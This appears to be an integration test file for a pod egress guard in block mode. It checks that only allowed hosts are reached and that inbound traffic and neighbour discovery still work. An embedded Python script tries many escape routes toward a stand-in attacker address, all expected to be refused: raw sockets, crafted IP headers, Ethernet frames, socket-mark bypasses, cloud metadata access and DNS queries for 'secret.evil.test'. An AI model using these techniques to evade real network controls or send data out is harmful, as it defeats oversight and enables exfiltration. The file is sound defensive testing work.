/** A guard of a pod in block mode: what it lets through, what it refuses, and that a network goes on working. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ATTACKER, METADATA, RESOLVER } from "../support/internet/addresses.ts";
import { createInternet, type Internet, type Machine } from "../support/internet/internet.ts";
import { requires } from "../support/requires.ts";
import { type PodWatch, asUser, shell, watchPod } from "./watched-pod.ts";

const { internet: needed } = requires;
const ALLOWED = { ipv4: "198.51.100.10", ipv6: "2001:db8:1::10" } as const;
const UNLISTED = { ipv4: "198.51.100.66", ipv6: "2001:db8:1::66" } as const;
const EGRESS = { allow: ["github.test:443", "github.test:80"] };
const USER = 4711;

/** Ways to run the guard; enforcement has to be the same in all of them. */
const WAYS = [
  { way: "as root", options: {}, sensor: "kernel" },
  {
    way: "as a user with the capabilities that both sensor and block need",
    options: {
      userId: USER,
      through: asUser(USER, ["bpf", "perfmon", "net_admin", "sys_ptrace", "dac_read_search"]),
    },
    sensor: "kernel",
  },
  {
    way: "as a user with NET_ADMIN alone",
    options: { userId: USER, through: asUser(USER, ["net_admin"]), flags: ["--sensor", "proc"] },
    sensor: "proc",
  },
];

describe.skipIf(!needed.available)(`a pod in block mode${needed.note}`, () => {
  let internet: Internet;
  beforeAll(async () => {
    internet = await createInternet();
    const ports = { 443: "https", 80: "http", 22: "ssh" } as const;
    await internet.site("github.test", { ...ALLOWED, ports });
    await internet.site("evil.test", { ...UNLISTED, ports });
  });
  afterAll(() => internet[Symbol.asyncDispose]());

  describe.each(WAYS)("guarded $way", ({ options, sensor }) => {
    let pod: Machine;
    let guard: PodWatch;
    beforeAll(async () => {
      pod = await internet.pod({ ownProcesses: true });
      guard = await watchPod(pod, { egress: EGRESS, ...options });
    });
    afterAll(() => pod[Symbol.asyncDispose]());

    test("is ready when the block is in force", () => {
      expect(guard.ready.mode).toMatchObject({ effective: "block" });
      expect(guard.ready.enforcement).toMatchObject({ mechanism: "nftables" });
      expect(guard.ready.sensors).toContainEqual(
        expect.objectContaining({
          name: sensor,
          status: expect.stringMatching(/^(active|degraded)$/),
        }),
      );
    });

    test("lets every process through to an allowed name", async () => {
      const { stdout } = await shell(
        pod,
        `curl -4 -sS http://github.test/four; curl -6 -sS http://github.test/six
         ${asUser(USER + 1, []).join(" ")} curl -sS --cacert ${pod.caFile} https://github.test/user`,
      );
      expect(stdout.split("\n")).toEqual([
        "github.test GET /four",
        "github.test GET /six",
        "github.test GET /user",
        "",
      ]);
    });

    test("refuses all else, over every protocol", async () => {
      await internet.forget();
      const { stdout } = await pod.run(["python3", "-c", ATTACKS]);

      expect(JSON.parse(stdout)).toEqual({
        tcp4: "ECONNREFUSED",
        tcp6: "ECONNREFUSED",
        mapped: "ECONNREFUSED",
        port: "ECONNREFUSED",
        metadata: "ECONNREFUSED",
        udp4: "EPERM",
        udp6: "EPERM",
        icmp4: "EPERM",
        icmp6: "EPERM",
        raw4: "EPERM",
        raw6: "EPERM",
        header4: "EPERM",
        frame: "ENOBUFS",
        marked: "EPERM",
        // To the gate, where it is no question.
        markedDns: "sent",
        dns: "NXDOMAIN",
        otherDns: "NXDOMAIN",
        tcpDns: "NXDOMAIN",
      });
      expect(await internet.capture.packets({ from: pod })).toEqual([]);
      expect(await internet.dns.questions()).toEqual([]);
    });

    test("asks for neighbours and joins groups as before", async () => {
      await internet.forget();
      const { stdout } = await shell(
        pod,
        `ip -6 neigh flush dev eth0 nud all; ip -4 neigh flush dev eth0 nud all
         curl -4 -sS http://github.test/four; curl -6 -sS http://github.test/six; ip neigh`,
      );
      expect(stdout).toMatch(/^github.test GET \/four\ngithub.test GET \/six\n/);
      expect(stdout.match(/ lladdr \S+ (router )?REACHABLE/g)).toHaveLength(2);

      const member = pod.start(["python3", "-c", toMember(pod.ipv4)]);
      // The kernel tells of a membership within a second.
      await waitUntil(async () => {
        const frames = await internet.capture.frames({ from: pod });
        const groups = new Set(frames.map(({ destination }) => destination.ip));
        return groups.has("ff02::16") && groups.has("224.0.0.22");
      });
      member.kill("SIGKILL");
    });

    test("answers who comes in from outside, and itself", async () => {
      const server = pod.start(["python3", "-c", SERVER]);
      const world = `/run/netns/${pod.namespace.name.replace(/-pod-.*/, "-world")}`;
      const { stdout } = await shell(
        pod,
        `until curl -s http://127.0.0.1:8080/; do :; done; curl -s "http://[::1]:8080/"; curl -s http://${pod.ipv4}:8080/
         for from in 198.51.100.10 ${UNLISTED.ipv4}; do
           nsenter --net=${world} curl -sS -m 5 --interface $from http://${pod.ipv4}:8080/
         done
         nsenter --net=${world} curl -sS -m 5 --interface ${UNLISTED.ipv6} "http://[${pod.ipv6}]:8080/"`,
      );
      server.kill("SIGKILL");
      expect(stdout).toBe("served\n".repeat(6));
    });

    test("tells in its report what was refused, when it is asked", async () => {
      await shell(pod, `curl -s http://${ATTACKER.ipv4}/`);
      expect(await guard.ask("finish")).toMatchObject({ status: 0, stderr: "" });
      const report = guard.report();

      expect(report.mode).toMatchObject({ effective: "block" });
      expect(report.connections).toContainEqual(
        expect.objectContaining({
          destination: expect.objectContaining({ ip: ATTACKER.ipv4, port: 80 }),
          verdict: "blocked",
        }),
      );
    });
  });
});

async function waitUntil(isSo: () => Promise<boolean>): Promise<void> {
  const deadline = performance.now() + 10_000;
  while (!(await isSo())) expect(performance.now()).toBeLessThan(deadline);
}

/** Of two groups, until it is killed. */
function toMember(ipv4: string): string {
  return `
import socket, struct, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(socket.AF_INET6, "ff02::1234") + struct.pack("@I", socket.if_nametoindex("eth0")))
t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
t.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.1.2.3") + socket.inet_aton("${ipv4}"))
sys.stdin.read()
`;
}

const SERVER = `
import http.server, socket
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b"served\\n")
    def log_message(self, *args): pass
class Server(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
Server(("::", 8080), Handler).serve_forever()
`;

/** Each with its outcome: how the kernel refused it, or that it was sent. */
const ATTACKS = `
import errno, json, socket, struct
def name(error): return errno.errorcode.get(error.errno, type(error).__name__) if error.errno else type(error).__name__
def tcp(family, ip, port, mark=None):
    s = socket.socket(family); s.settimeout(3)
    if mark is not None: s.setsockopt(socket.SOL_SOCKET, 36, mark)
    try: s.connect((ip, port)); return "connected"
    except OSError as e: return name(e)
def send(family, ip, kind, proto, payload, port=9999, mark=None, header=False):
    s = socket.socket(family, kind, proto); s.settimeout(3)
    if mark is not None: s.setsockopt(socket.SOL_SOCKET, 36, mark)
    if header: s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    try: s.sendto(payload, (ip, port)); return "sent"
    except OSError as e: return name(e)
def ask(ip, host, stream=False, mark=None):
    query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(p)]) + p.encode() for p in host.split(".")) + b"\\0\\0\\x01\\0\\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM); s.settimeout(3)
    if mark is not None: s.setsockopt(socket.SOL_SOCKET, 36, mark)
    try:
        s.connect((ip, 53)); s.send(struct.pack(">H", len(query)) + query if stream else query)
        answer = s.recv(512)[2 if stream else 0:]
        return "NXDOMAIN" if answer[3] & 15 == 3 else "answered %d" % (answer[3] & 15)
    except OSError as e: return name(e)
I4, I6, D, R = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM, socket.SOCK_RAW
def checksum(b):
    t = sum(struct.unpack(">%dH" % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); return ~(t + (t >> 16)) & 0xffff
def packet(source, target):
    h = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
    return h[:10] + struct.pack(">H", checksum(h)) + h[12:] + struct.pack(">HHHH", 5353, 9999, 8, 0)
own = socket.socket(I4, D); own.connect(("127.0.0.1", 9)); own = None
def frame():
    s = socket.socket(socket.AF_PACKET, R); s.bind(("eth0", 0))
    body = b"\\x02" * 6 + b"\\x02" * 6 + b"\\x08\\x00" + packet("10.244.1.2", "${ATTACKER.ipv4}")
    try: s.send(body); return "sent"
    except OSError as e: return name(e)
echo = b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0"
print(json.dumps({
    "tcp4": tcp(I4, "${ATTACKER.ipv4}", 443), "tcp6": tcp(I6, "${ATTACKER.ipv6}", 443),
    "mapped": tcp(I6, "::ffff:${ATTACKER.ipv4}", 443), "port": tcp(I4, "${ALLOWED.ipv4}", 22),
    "metadata": tcp(I4, "${METADATA.ipv4}", 80),
    "udp4": send(I4, "${ATTACKER.ipv4}", D, 0, b"x"), "udp6": send(I6, "${ATTACKER.ipv6}", D, 0, b"x"),
    "icmp4": send(I4, "${ATTACKER.ipv4}", R, 1, echo), "icmp6": send(I6, "${ATTACKER.ipv6}", R, 58, b"\\x80\\0\\0\\0\\0\\0\\0\\0", 0),
    "raw4": send(I4, "${ATTACKER.ipv4}", R, 132, b"payload"), "raw6": send(I6, "${ATTACKER.ipv6}", R, 132, b"payload", 0),
    "header4": send(I4, "${ATTACKER.ipv4}", R, 255, packet("0.0.0.0", "${ATTACKER.ipv4}"), header=True),
    "frame": frame(),
    "marked": send(I4, "${ATTACKER.ipv4}", D, 0, b"x", mark=1), "markedDns": send(I4, "${ATTACKER.ipv4}", R, 17, struct.pack(">HHHH", 5353, 53, 8, 0), mark=1),
    "dns": ask("${RESOLVER.ipv4}", "secret.evil.test", mark=1), "otherDns": ask("1.1.1.1", "secret.evil.test"), "tcpDns": ask("1.1.1.1", "secret.evil.test", True),
}))
`;
